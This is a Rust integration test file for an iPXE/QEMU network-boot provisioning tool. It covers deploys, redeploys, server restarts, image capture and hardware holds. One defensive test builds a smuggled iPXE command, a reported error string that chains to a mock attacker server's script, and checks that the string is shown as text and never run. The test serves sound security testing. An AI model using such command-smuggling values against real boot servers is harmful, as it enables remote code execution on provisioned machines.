//! Network boot as a rack does it, with nothing but the iPXE that QEMU's NIC
//! carries (SeaBIOS's and OVMF's option ROM) and QEMU's DHCP naming
//! `imprint serve --hosts` as the boot file: an empty disk deploys, the next
//! network boot is sent to the disk and the installed OS commits; reprovisioned,
//! the machine deploys again (fetching only what the OS changed) and then boots its disk again.

mod common;

use common::machine::*;
use common::vm::*;
use common::*;
use std::path::Path;

/// QEMU's first NIC.
const MAC: &str = "52:54:00:12:34:56";

/// The image's data chunks (1 MiB, past the first, not all zeros) that the
/// disk no longer holds as they are: what a redeploy fetches.
fn changed_chunks(image: &str, disk: &Path) -> u64 {
    const CHUNK: usize = 1 << 20;
    let image = std::fs::read(image).unwrap();
    let disk = std::fs::read(disk).unwrap();
    missing_data_chunks(&image[CHUNK..], &disk[CHUNK..], CHUNK)
}

/// A machine with an empty disk whose network boots from `net`; each run must
/// end by itself (power off or reboot).
fn machine(repo: &Repo, firmware: &'static str, net: &str) -> Machine {
    Machine::new(repo.dir.path(), firmware)
        .blank_disk("disk.img", 256 << 20)
        .network(net)
        .timeout(300)
}

/// The server runs with every protection on: the operator's token, and a
/// status token for deploy environments it did not boot. Its own machines
/// report with their deploy's credential, which the status token does not
/// stand in the way of.
fn network_boot(firmware: &'static str) {
    let a = artifacts();
    let repo = Repo::new();
    let digest = add(&repo, "os:v1", &a.path("os-v1.img"));
    let (served, net) = provisioning_server_with(
        &repo,
        &format!(
            "[default]\ncmdline = [\"console=ttyS0\", \"quiet\", \"panic=-1\"]\n\n\
             [hosts.\"{MAC}\"]\nhostname = \"node-1\"\nimage = \"os:v1\"\nsettings = {{ disk = \"/dev/vda\" }}\n"
        ),
        None,
        &["--status-token", "a-status-token-for-static-boots"],
    );
    let vm = machine(&repo, firmware, &net);
    let run = |name: &str| vm.netboot(name);
    let disk = &vm.disks[0];

    // An empty disk: the boot script deploys.
    let c = run("deploy");
    assert_has(&c, "imprint: deploying os:v1 to node-1 (attempt 1 of 3)");
    let full = summary_figure(&c, "fetched_chunks");
    assert_has(&c, "imprint 0.1.0 deploy environment");
    assert_has(&c, "deploy complete: ");
    assert_has(&c, "handing off (reboot)");
    let m = machine_entry(&served, MAC);
    assert_eq!(m["state"]["completed"], digest, "{m}");
    assert_eq!(m["next"], "local");
    // Its events were taken: every phase up to the hand-off, with the
    // deploy's credential, which the disk's record keeps for the installed OS.
    assert_eq!(m["event"]["phase"], "complete", "{m}");
    let record = read_state(disk).0;
    assert_eq!(record.settings["hostname"], "node-1");
    let credential = record.credential.expect("the deploy's credential").0;
    assert_eq!(
        m["state"]["credential"].as_str(),
        Some(imprint::host::access::fingerprint(&credential).as_str()),
        "{m}"
    );
    // The hardware it reported is kept, and shown to the operator: its disk
    // (the size read back from the file) and its NIC.
    let disk_size = std::fs::metadata(disk).unwrap().len();
    let vda = m["hardware"]["disks"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|d| d["name"] == "vda");
    assert_eq!(
        vda.map(|d| d["size"].clone()),
        Some(disk_size.into()),
        "{m}"
    );
    assert_eq!(
        m["hardware"]["firmware"],
        if firmware == "uefi" { "uefi" } else { "bios" }
    );
    let token = operator_token_file();
    let shown = host_show(&served, MAC, &token);
    assert_success(&shown);
    let shown = stdout_of(&shown);
    assert_line(&shown, &["disk vda: ", &format!("({disk_size} bytes)")]);
    assert_line(&shown, &["NIC ", MAC, "driver virtio_net"]);
    assert_line(&shown, &["host name: node-1"]);

    // Network first in the boot order, as racks are: sent to the disk.
    let c = run("local");
    assert_has(
        &c,
        &format!("imprint: {MAC} is deployed; booting its own disk"),
    );
    assert!(!c.contains("deploy environment"), "{c}");
    assert_has(&c, "test-os: v1 booted");
    assert_has(&c, "imprint firstboot: committed");

    // Reprovisioned: the same image again.
    assert_success(&reprovision(&served, MAC, &operator_token_file()));
    // Only what the OS changed since (its root, as it ran) is fetched again.
    let changed = changed_chunks(&a.path("os-v1.img"), disk);
    let c = run("redeploy");
    assert_has(&c, "imprint: deploying os:v1 to node-1 (attempt 1 of 3)");
    let fetched = summary_figure(&c, "fetched_chunks");
    assert_eq!(fetched, changed, "{c}");
    assert!(fetched < full, "fetched {fetched} of {full}");
    let c = run("local-again");
    assert_has(&c, "is deployed; booting its own disk");
    assert_has(&c, "test-os: v1 booted");
    assert_eq!(machine_entry(&served, MAC)["state"]["deploys"], 2);
}

#[test]
fn network_boot_with_seabios_ipxe() {
    require_qemu!();
    network_boot("bios");
}

#[test]
#[ignore = "full matrix only (scripts/full-matrix); CI shows the same in network_boot_with_seabios_ipxe, and OVMF's own iPXE in the network-first machine of tests/debian_uki.rs"]
fn network_boot_with_ovmf_ipxe() {
    require_qemu!();
    network_boot("uefi");
}

/// A plain static server and one boot script for every machine: the deploy
/// environment decides by itself. It deploys the empty disk; on the next
/// network boot (the network first in the boot order, as racks are) the disk's
/// record names the image already, so nothing is written or fetched and the
/// installed OS starts by kexec of the kernel its own boot loader names.
fn static_network_boot(firmware: &'static str) {
    let a = artifacts();
    let repo = Repo::new();
    add(&repo, "os:v1", &a.path("os-v1.img"));
    let served = Served::start(&repo.path());
    let net = static_boot_script(
        &repo,
        &served.url,
        "imprint.image=os:v1 imprint.disk=/dev/vda",
    );
    let vm = machine(&repo, firmware, &net);
    let run = |name: &str| {
        let started = std::time::Instant::now();
        let console = vm.netboot(name);
        (console, started.elapsed())
    };
    let (c, _) = run("deploy");
    assert_has(&c, "install step done: write-head");
    assert_has(&c, "handing off (reboot)");

    let (c, _) = run("again");
    assert_has(&c, "already holds os sha256:");
    assert!(!c.contains("install step done"), "{c}");
    assert!(!c.contains("deploy complete"), "{c}");
    assert_has(&c, "boot entry from /syslinux/syslinux.cfg");
    assert_has(&c, "starting the installed OS by kexec of /vmlinuz");
    assert_has(&c, "test-os: v1 booted");
    assert_has(&c, "imprint firstboot: committed");
    // Committed now; the next network boot starts it the same way.
    let (c, took) = run("committed");
    assert_has(&c, "(committed, deployed ");
    assert_has(&c, "imprint firstboot: nothing to do (committed)");
    let kexec_at = kexec_seconds(&c, "/vmlinuz");
    use std::io::Write;
    let _ = writeln!(
        std::io::stderr(),
        "{firmware}: network boot of a deployed machine from a static server: the deploy environment started the installed OS {kexec_at:.2} s after its kernel started; the whole run, power-on to the OS powering off, took {:.1} s under emulation",
        took.as_secs_f64()
    );
}

#[test]
#[ignore = "full matrix only (scripts/full-matrix); CI shows the same in stock_debian_from_nginx_deploys_once_then_starts_by_kexec (tests/debian.rs)"]
fn a_static_boot_script_deploys_once_then_starts_the_installed_os_bios() {
    require_qemu!();
    static_network_boot("bios");
}

#[test]
#[ignore = "full matrix only (scripts/full-matrix); CI shows the same in stock_debian_from_nginx_deploys_once_then_starts_by_kexec (tests/debian.rs), and OVMF's own iPXE in the network-first machine of tests/debian_uki.rs"]
fn a_static_boot_script_deploys_once_then_starts_the_installed_os_uefi() {
    require_qemu!();
    static_network_boot("uefi");
}

/// `imprint serve` restarted in the middle of a deploy: the deploy environment
/// retries what it fetches and the status events the server missed, so the
/// deploy completes, the server's memory of the machine (kept under --data) is
/// whole, and the next network boot is sent to the disk.
#[test]
fn the_server_restarts_during_a_deploy() {
    require_qemu!();
    let a = artifacts();
    let repo = Repo::new();
    let digest = add(&repo, "os:v1", &a.path("os-v1.img"));
    let inventory = format!(
        "[default]\ncmdline = [\"console=ttyS0\", \"quiet\", \"panic=-1\"]\n\n\
         [hosts.\"{MAC}\"]\nimage = \"os:v1\"\nsettings = {{ disk = \"/dev/vda\" }}\n"
    );
    // A fixed port: the machine's boot script and status URL name it.
    let listen = format!("127.0.0.1:{}", free_port());
    let (served, net) = provisioning_server(&repo, &inventory, Some(&listen));
    let machine = Machine::new(repo.dir.path(), "bios")
        .blank_disk("disk.img", 256 << 20)
        .network(&net)
        .timeout(300);

    let vm = {
        let machine = machine.clone();
        std::thread::spawn(move || {
            machine.try_run_with(
                "deploy",
                Boot {
                    timeout: 400,
                    // Slow enough that the restart falls inside the writing.
                    write_iops: &[4],
                    ..machine.spec(Start::Network)
                },
            )
        })
    };
    let start = std::time::Instant::now();
    while machine_entry(&served, MAC)["event"]["phase"] != "writing" {
        assert!(
            start.elapsed() < std::time::Duration::from_secs(240),
            "the deploy never started writing"
        );
        std::thread::sleep(std::time::Duration::from_millis(250));
    }
    drop(served);
    std::thread::sleep(std::time::Duration::from_secs(4));
    let (served, _) = provisioning_server(&repo, &inventory, Some(&listen));
    let (status, c) = vm.join().unwrap();
    assert!(status.success(), "{status:?}\n{c}");
    assert_has(&c, "deploy complete: ");
    let m = machine_entry(&served, MAC);
    assert_eq!(m["state"]["completed"], digest, "{m}");
    assert_eq!(m["state"]["failures"], 0, "{m}");
    assert_eq!(m["state"]["deploys"], 1, "{m}");
    assert_eq!(m["event"]["phase"], "complete", "{m}");
    let c = machine.netboot("local");
    assert_has(&c, "is deployed; booting its own disk");
    assert_has(&c, "test-os: v1 booted");
}

/// Two machines network-boot at once: each gets the image and host name the
/// inventory gives its MAC address.
#[test]
fn two_machines_at_once_get_their_own_images() {
    require_qemu!();
    let a = artifacts();
    let repo = Repo::new();
    let v1 = add(&repo, "os:v1", &a.path("os-v1.img"));
    let v2 = add(&repo, "os:v2", &a.path("os-v2.img"));
    let (one, two) = ("52:54:00:00:01:01", "52:54:00:00:01:02");
    let (_served, net) = provisioning_server(
        &repo,
        &format!(
            "[default]\ncmdline = [\"console=ttyS0\", \"quiet\", \"panic=-1\"]\nsettings = {{ disk = \"/dev/vda\" }}\n\n\
             [hosts.\"{one}\"]\nhostname = \"web-1\"\nimage = \"os:v1\"\n\n\
             [hosts.\"{two}\"]\nhostname = \"db-1\"\nimage = \"os:v2\"\n"
        ),
        None,
    );
    let vms: Vec<_> = [one, two]
        .into_iter()
        .map(|mac| {
            let name = mac.replace(':', "");
            let m = Machine::new(repo.dir.path(), "bios")
                .blank_disk(&format!("{name}.img"), 256 << 20)
                .network(&net)
                .mac(mac)
                .timeout(400);
            std::thread::spawn(move || {
                let c = m.netboot(&name);
                assert_has(&c, "deploy complete: ");
                m.disks[0].clone()
            })
        })
        .collect();
    let disks: Vec<_> = vms.into_iter().map(|v| v.join().unwrap()).collect();
    for (disk, (digest, hostname)) in disks.iter().zip([(&v1, "web-1"), (&v2, "db-1")]) {
        let record = read_state(disk).0;
        assert_eq!(&record.image_digest.to_string(), digest);
        assert_eq!(record.settings["hostname"], hostname);
    }
}

/// A held machine's boot script shows the last error its deploy reported, and
/// that error is the machine's to write: here it holds iPXE's syntax (`;`
/// starts another command, `#` ends the line) naming a script of an attacker's
/// server. QEMU's own iPXE shows it as text and asks again; it never fetches
/// or runs the attacker's script. (Anyone who can reach the server can fetch a
/// machine's boot script, and with it that deploy's credential: iPXE cannot
/// prove who it is. So the error comes from that path here.)
#[test]
fn an_error_a_machine_reports_is_shown_by_ipxe_never_run() {
    require_qemu!();
    let repo = Repo::new();
    // The attacker's server: counts who asks, and would power the machine off.
    let (evil_port, asked) = answering_server(
        "text/plain",
        "#!ipxe\necho PWNED by a status event\npoweroff\n".into(),
    );
    let (served, net) = provisioning_server_with(
        &repo,
        &format!("[hosts.\"{MAC}\"]\nimage = \"os:v1\"\n"),
        None,
        &["--attempts", "1"],
    );
    let s = common::rig::script(&served, MAC, "pcbios");
    let credential = common::rig::credential_of(&s);
    let error = format!("disk gone ; chain http://10.0.2.2:{evil_port}/x.ipxe #");
    for e in [
        r#"{"phase":"booted","target":"MAC"}"#.to_string(),
        format!(r#"{{"phase":"failed","target":"MAC","error":"{error}"}}"#),
    ] {
        assert_eq!(common::rig::event(&served, MAC, &e, Some(&credential)), 204);
    }
    let m = machine_entry(&served, MAC);
    assert_eq!(m["next"], "hold", "{m}");
    assert_eq!(m["state"]["last_error"], error.as_str(), "{m}");

    let m = Machine::new(repo.dir.path(), "bios")
        .blank_disk("disk.img", 64 << 20)
        .network(&net)
        .timeout(180);
    let (_, c) = m.try_run_with(
        "held",
        Boot {
            cut_on: &["imprint: asking again in 60 s"],
            ..m.spec(Start::Network)
        },
    );
    // iPXE wraps its console at 80 columns.
    let unwrapped = c.replace(['\r', '\n'], "");
    assert_has(
        &unwrapped,
        &format!(
            "imprint: {MAC}: the deploy failed 1 times in a row, last: disk gone ? chain http://10.0.2.2:{evil_port}/x.ipxe ?? fix it, then run: imprint host reprovision {MAC}"
        ),
    );
    assert_has(&c, "imprint: asking again in 60 s");
    assert!(!c.contains("PWNED"), "{c}");
    assert_eq!(
        asked.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "iPXE asked the attacker's server"
    );
    assert_eq!(machine_entry(&served, MAC)["next"], "hold");
}

/// A machine whose inventory entry says `capture =`: its network boot sends it
/// into a capture with a credential of its own (no capture token on the
/// server), the server publishes `golden:1` and remembers it captured, and its
/// next network boot goes to its own disk.
#[test]
fn a_machine_the_inventory_sends_to_capture_publishes_its_own_tag() {
    require_qemu!();
    let a = artifacts();
    let repo = Repo::new();
    let (served, net) = provisioning_server_with(
        &repo,
        &format!(
            "[default]\ncmdline = [\"console=ttyS0\", \"quiet\", \"panic=-1\"]\n\n\
             [hosts.\"{MAC}\"]\nhostname = \"golden\"\ncapture = \"golden:1\"\n\
             settings = {{ disk = \"/dev/vda\", handoff = \"poweroff\" }}\n"
        ),
        None,
        &[],
    );
    // The source: the test OS on its disk, as a machine configured by hand.
    let disk = repo.dir.path().join("source.img");
    copy_sparse(Path::new(&a.path("os-v1.img")), &disk);
    let vm = Machine::new(repo.dir.path(), "bios")
        .with_disks([disk])
        .network(&net)
        .timeout(300);

    let c = vm.netboot("capture");
    assert_has(&c, "imprint: capturing golden:1 from golden");
    assert_has(&c, "capture complete: golden:1 sha256:");
    assert_has(&c, "handing off (poweroff)");
    let m = machine_entry(&served, MAC);
    assert_eq!(m["state"]["captured"], "golden:1", "{m}");
    assert_eq!(m["event"]["phase"], "captured", "{m}");
    assert_eq!(m["next"], "local", "{m}");
    let listed = image_ls(&repo);
    assert!(listed.contains("golden:1"), "{listed}");
    let inspect = image_inspect(&repo, "golden:1");
    assert!(inspect.contains("generalized"), "{inspect}");

    let c = vm.netboot("local");
    assert_has(
        &c,
        &format!("imprint: {MAC} is captured; booting its own disk"),
    );
    assert!(!c.contains("deploy environment"), "{c}");
}

/// A machine whose image needs what it does not have (a device bound to the
/// NVMe driver): its first network boot's deploy environment refuses before
/// writing and reports its hardware; from then on the server holds it, naming
/// the requirement, without sending it the deploy environment.
#[test]
fn a_machine_its_image_does_not_fit_is_held_by_the_server() {
    require_qemu!();
    let a = artifacts();
    let repo = Repo::new();
    add_with(
        &repo,
        "os:nvme",
        &a.path("os-v1.img"),
        &["--driver", "nvme"],
    );
    let (served, net) = provisioning_server_with(
        &repo,
        &format!(
            "[default]\ncmdline = [\"console=ttyS0\", \"quiet\", \"panic=-1\"]\n\n\
             [hosts.\"{MAC}\"]\nimage = \"os:nvme\"\nsettings = {{ disk = \"/dev/vda\" }}\n"
        ),
        None,
        &[],
    );
    let vm = machine(&repo, "bios", &net);
    let before = std::fs::read(&vm.disks[0]).unwrap();
    let c = vm.netboot("refused");
    assert_has(&c, "the image needs a device bound to the driver nvme");
    assert_has(&c, "nothing was written");
    assert!(
        std::fs::read(&vm.disks[0]).unwrap() == before,
        "the disk was written"
    );
    let m = machine_entry(&served, MAC);
    assert_eq!(m["next"], "hold", "{m}");
    assert!(
        m["held"]
            .as_str()
            .is_some_and(|h| h.contains("driver nvme")),
        "{m}"
    );
    // Held: iPXE says why and asks again a minute later, never booting the
    // deploy environment (the run is ended while it waits).
    let held = Machine {
        timeout: 30,
        ..vm.clone()
    };
    let (_, c) = held.try_run("held", Start::Network);
    // iPXE wraps its console at 80 columns.
    let unwrapped: String = c.lines().collect();
    assert!(
        unwrapped.contains(&format!(
            "imprint: {MAC}: os:nvme: the image needs a device bound to the driver nvme"
        )),
        "{c}"
    );
    assert!(!c.contains("deploy environment"), "{c}");
}
